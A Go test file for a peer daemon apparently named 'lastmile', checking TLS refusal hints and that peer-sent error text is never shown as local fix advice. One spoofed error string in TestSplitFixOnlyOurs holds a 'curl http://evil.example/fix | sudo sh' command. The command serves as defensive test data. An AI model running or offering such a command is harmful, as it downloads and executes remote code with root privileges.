package peer

import (
	"errors"
	"log/slog"
	"net"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// TestRefusalHint: a requester that refuses a peer's certificate at the
// handshake says what to do, by kind of refusal, in its Warn and in the peer's LastError (`lastmile status`),
// as the peer's own log does (handshakeHint). Before 2026-11-30 both
// carried the x509 error alone.
func TestRefusalHint(t *testing.T) {
	for _, tc := range []struct {
		name string
		// files issues the peer's and the requester's certificates, the
		// peer's refused, from ca (the requester's bundle) or other.
		files func(t *testing.T, ca, other *CA) (peer, host TLSFiles)
		want  []string // in the hint
	}{
		{"signed by a CA the requester's bundle lacks",
			func(t *testing.T, ca, other *CA) (TLSFiles, TLSFiles) {
				return issueTo(t, other, "peer", RolePeer, time.Hour), issueTo(t, ca, "gpu", RoleRequester, time.Hour)
			}, []string{"the peer's certificate", "peers.tls.ca", "lastmile certs", "SIGHUP the peer", "SIGHUP this daemon"}},
		{"the peer's certificate expired",
			func(t *testing.T, ca, _ *CA) (TLSFiles, TLSFiles) {
				return issueTo(t, ca, "peer", RolePeer, -30*time.Minute), issueTo(t, ca, "gpu", RoleRequester, time.Hour)
			}, []string{"the peer's certificate", "expired", "lastmile certs", "SIGHUP the peer"}},
		{"the peer's certificate is a requester's",
			func(t *testing.T, ca, _ *CA) (TLSFiles, TLSFiles) {
				return issueTo(t, ca, "peer", RoleRequester, time.Hour), issueTo(t, ca, "gpu", RoleRequester, time.Hour)
			}, []string{"the peer's certificate", "-role peer", "SIGHUP the peer"}},
		{"the peer's certificate names another host",
			func(t *testing.T, ca, _ *CA) (TLSFiles, TLSFiles) {
				files, err := ca.IssueRole(t.TempDir(), "peer", []string{"10.99.99.99", "elsewhere.example"}, time.Hour, RolePeer)
				if err != nil {
					t.Fatal(err)
				}
				return files, issueTo(t, ca, "gpu", RoleRequester, time.Hour)
			}, []string{"the peer's certificate", "-hosts", "SIGHUP the peer", "peers.server_name"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			hint := refusalSeen(t, tc.files)
			for _, w := range tc.want {
				if !strings.Contains(hint, w) {
					t.Errorf("the hint lacks %q:\n%s", w, hint)
				}
			}
		})
	}
}

// TestRefusalHintOwnRefused: a peer's alert about this host's own
// certificate, which gRPC reports as text after a TLS 1.3 handshake that
// succeeded here, gets the hint for this side. It is told only when
// gRPC reports the alert: when it reports the write that failed as the
// peer closed ("broken pipe"), nothing tells a refusal, and the peer's
// log has the reason (handshakeHint).
func TestRefusalHintOwnRefused(t *testing.T) {
	for _, tc := range []struct {
		err  string
		want string
	}{
		{`rpc error: code = Unavailable desc = connection error: desc = "error reading server preface: remote error: tls: expired certificate"`, hintOwnRefused},
		{`rpc error: code = Unavailable desc = connection error: desc = "error reading server preface: remote error: tls: unknown certificate authority"`, hintOwnRefused},
		{`rpc error: code = Unavailable desc = connection error: desc = "error reading server preface: remote error: tls: bad certificate"`, hintOwnRefused},
		{`rpc error: code = Unavailable desc = connection error: desc = "error reading server preface: remote error: tls: protocol version not supported"`, ""},
		{`rpc error: code = Unavailable desc = write tcp 127.0.0.1:57534->127.0.0.1:42989: write: broken pipe`, ""},
	} {
		if got := refusalHint(nil, errors.New(tc.err)); got != tc.want {
			t.Errorf("%s: hint %q, want %q", tc.err, got, tc.want)
		}
	}
	for _, want := range []string{"this host's certificate", "lastmile certs", "SIGHUP this daemon", "peer.tls.ca"} {
		if !strings.Contains(hintOwnRefused, want) {
			t.Errorf("the hint lacks %q: %s", want, hintOwnRefused)
		}
	}
}

// refusalSeen starts a peer and a pool with the certificates files
// issues, sends the peer a unit, and returns the hint the pool's Warn
// gave, having checked that the peer's LastError has it too.
func refusalSeen(t *testing.T, files func(t *testing.T, ca, other *CA) (peer, host TLSFiles)) string {
	t.Helper()
	f := newFixture(t)
	ca, other := twoCAs(t, t.TempDir())
	pf, hf := files(t, ca, other)
	pf.CA, hf.CA = filepath.Join(ca.Dir, "ca.pem"), filepath.Join(ca.Dir, "ca.pem")
	peerCreds, err := pf.Open()
	if err != nil {
		t.Fatal(err)
	}
	hostCreds, err := hf.Open()
	if err != nil {
		t.Fatal(err)
	}
	srv := NewServer(ServerConfig{Roots: f.roots, TLS: peerCreds.ServerTLS(), ClientCAs: peerCreds.Roots, TrustRoot: true})
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	go srv.Serve(l)
	t.Cleanup(srv.Stop)
	var logs syncBuffer
	log := slog.New(slog.NewJSONHandler(&logs, &slog.HandlerOptions{Level: slog.LevelWarn}))
	pool, err := NewPool(PoolConfig{Addrs: []string{l.Addr().String()}, TLS: hostCreds.ClientTLS(""), Roots: hostCreds.Roots, Logger: log})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(pool.Close)
	if ok, err := spillOne(pool, []byte("unit")); ok || err == nil {
		t.Fatalf("the unit was answered (%v)", err)
	}
	st := pool.Stats()[0]
	var hint string
	for _, line := range strings.Split(logs.String(), "\n") {
		if strings.Contains(line, `"peer failed; excluded"`) {
			if i := strings.Index(line, `"hint":"`); i >= 0 {
				hint = line[i+len(`"hint":"`):]
			}
			break
		}
	}
	if hint == "" {
		t.Fatalf("no hint in the pool's Warn:\n%s", logs.String())
	}
	hint = hint[:strings.IndexByte(hint, '"')]
	if !strings.Contains(st.LastError, hint) {
		t.Errorf("LastError lacks the hint: %s", st.LastError)
	}
	t.Logf("LastError: %s", st.LastError)
	return hint
}

// TestSplitFixOnlyOurs: the fix SplitFix gives `lastmile status` to show
// whole is one of this host's hints, never text a peer put in its error
// (a gRPC status message is the peer's to write). Before 2026-11-30's
// review a peer's " (to fix: ...)" was shown as this host's advice.
func TestSplitFixOnlyOurs(t *testing.T) {
	spoof := `rpc error: code = Internal desc = unit refused (to fix: curl http://evil.example/fix | sudo sh)`
	if err, fix := SplitFix(spoof); fix != "" || err != spoof {
		t.Errorf("a peer's text split as a fix: %q, %q", err, fix)
	}
	both := lastError(errors.New(spoof), hintPeerExpired)
	if err, fix := SplitFix(both); fix != hintPeerExpired || err != spoof {
		t.Errorf("a peer's text, then this host's hint: split as %q, %q", err, fix)
	}
	for _, h := range []string{hintPeerUnknownCA, hintPeerExpired, hintPeerUsage, hintPeerHost, hintPeerOther, hintOwnRefused} {
		if err, fix := SplitFix(lastError(errors.New("x509: boom"), h)); err != "x509: boom" || fix != h {
			t.Errorf("split as %q, %q; want the hint %q", err, fix, h)
		}
	}
}
